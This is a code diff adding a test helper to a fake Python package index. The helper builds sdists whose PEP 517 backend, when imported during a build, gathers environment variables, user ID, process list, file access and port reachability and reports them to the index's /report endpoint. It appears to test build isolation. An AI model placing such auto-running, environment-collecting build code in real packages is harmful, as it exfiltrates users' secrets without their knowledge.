@@ -15,6 +15,7 @@ import email.parser
 import hashlib
 import html
 import io
+import json
 import tarfile
 import threading
 import zipfile
@@ -68,6 +69,8 @@ class PackageIndex(ThreadedServer):
         self.delay = 0.0  # seconds each project page takes (to catch a resolver mid-run)
         self._lock = threading.Lock()
         app = web.Application(middlewares=[self._guard])
+        self.reports: list[dict] = []  # what buildable sdists' backends saw (`_report`)
+        app.router.add_get("/report", self._report)
         app.router.add_get("/simple/", self._root)
         app.router.add_get("/simple/{project}/", self._project)
         app.router.add_get("/files/{filename}", self._file)
@@ -214,9 +217,7 @@ class PackageIndex(ThreadedServer):
             "print(json.dumps(dict(os.environ)), file=sys.stderr)\n"
             "raise SystemExit('build failed on purpose')\n"
         ).encode()
-        pyproject = (
-            b'[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
-        )
+        pyproject = PYPROJECT_IN_TREE_BACKEND
         buffer = io.BytesIO()
         with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
             files = {"PKG-INFO": metadata, "pyproject.toml": pyproject, "backend.py": backend}
@@ -227,6 +228,41 @@ class PackageIndex(ThreadedServer):
         return self._add(
             name, Distribution(f"{dist}-{version}.tar.gz", buffer.getvalue(), metadata)
         )
+
+    def add_buildable_sdist(
+        self, name: str, version: str, *, files: list[str] = (), connect: list[int] = ()
+    ) -> Distribution:
+        """An sdist with dynamic metadata and its own PEP 517 backend that builds a real wheel.
+        Its backend, when it runs, reports what it sees to this index (`reports`): its
+        environment, its user, the processes it can see, whether it can read `files` and
+        connect to these ports of 127.0.0.1. The report goes out through the HTTP proxy of its
+        environment, as any build's requests would."""
+        dist = canonicalize_name(name).replace("-", "_")
+        metadata = _metadata(name, version, [], None, "2.1")
+        backend = BUILDABLE_BACKEND.format(
+            dist=dist,
+            metadata=metadata,
+            report=f"{self.url}/report",
+            files=list(files),
+            connect=list(connect),
+        ).encode()
+        pyproject = PYPROJECT_IN_TREE_BACKEND
+        buffer = io.BytesIO()
+        with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
+            contents = {"PKG-INFO": metadata.encode(), "pyproject.toml": pyproject}
+            contents["backend.py"] = backend
+            for path, data in contents.items():
+                entry = tarfile.TarInfo(f"{dist}-{version}/{path}")
+                entry.size = len(data)
+                archive.addfile(entry, io.BytesIO(data))
+        return self._add(
+            name, Distribution(f"{dist}-{version}.tar.gz", buffer.getvalue(), metadata.encode())
+        )
+
+    async def _report(self, request: web.Request) -> web.Response:
+        data = base64.urlsafe_b64decode(request.query["d"].encode())
+        self.reports.append(json.loads(data))
+        return web.Response(text="ok")
 
     async def _root(self, request: web.Request) -> web.Response:
         links = "".join(f'<a href="/simple/{name}/">{name}</a>\n' for name in sorted(self.projects))
@@ -272,3 +308,63 @@ class PackageIndex(ThreadedServer):
                         headers={"Cache-Control": "max-age=365000000, immutable, public"},
                     )
         raise web.HTTPNotFound()
+
+
+# A pyproject.toml whose PEP 517 backend is `backend.py` in the sdist itself, needing nothing.
+PYPROJECT_IN_TREE_BACKEND = (
+    b'[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
+)
+
+# The backend of `add_buildable_sdist`: reports what it sees, then builds a one-module wheel.
+BUILDABLE_BACKEND = """\
+import base64, json, os, socket, urllib.request, zipfile
+
+DIST, METADATA = {dist!r}, {metadata!r}
+VERSION = METADATA.split("Version: ")[2].split()[0]
+INFO = DIST + "-" + VERSION + ".dist-info"
+WHEEL = "Wheel-Version: 1.0\\nGenerator: tests\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"
+
+
+def _observe():
+    seen = {{"env": dict(os.environ), "uid": os.getuid(), "files": {{}}, "connect": {{}}}}
+    seen["processes"] = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
+    for path in {files!r}:
+        try:
+            with open(path, "rb") as handle:
+                seen["files"][path] = len(handle.read())
+        except OSError as error:
+            seen["files"][path] = type(error).__name__
+    for port in {connect!r}:
+        probe = socket.socket()
+        probe.settimeout(2)
+        seen["connect"][str(port)] = probe.connect_ex(("127.0.0.1", port))
+        probe.close()
+    data = base64.urlsafe_b64encode(json.dumps(seen).encode()).decode()
+    urllib.request.urlopen({report!r} + "?d=" + data, timeout=20).read()
+
+
+_observe()
+
+
+def get_requires_for_build_wheel(config_settings=None):
+    return []
+
+
+def prepare_metadata_for_build_wheel(metadata_directory, config_settings=None):
+    os.makedirs(os.path.join(metadata_directory, INFO))
+    for name, text in (("METADATA", METADATA), ("WHEEL", WHEEL)):
+        with open(os.path.join(metadata_directory, INFO, name), "w") as handle:
+            handle.write(text)
+    return INFO
+
+
+def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
+    name = DIST + "-" + VERSION + "-py3-none-any.whl"
+    files = {{DIST + "/__init__.py": "", INFO + "/METADATA": METADATA, INFO + "/WHEEL": WHEEL}}
+    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as archive:
+        for path, text in files.items():
+            archive.writestr(path, text)
+        record = "".join(path + ",,\\n" for path in [*files, INFO + "/RECORD"])
+        archive.writestr(INFO + "/RECORD", record)
+    return name
+"""
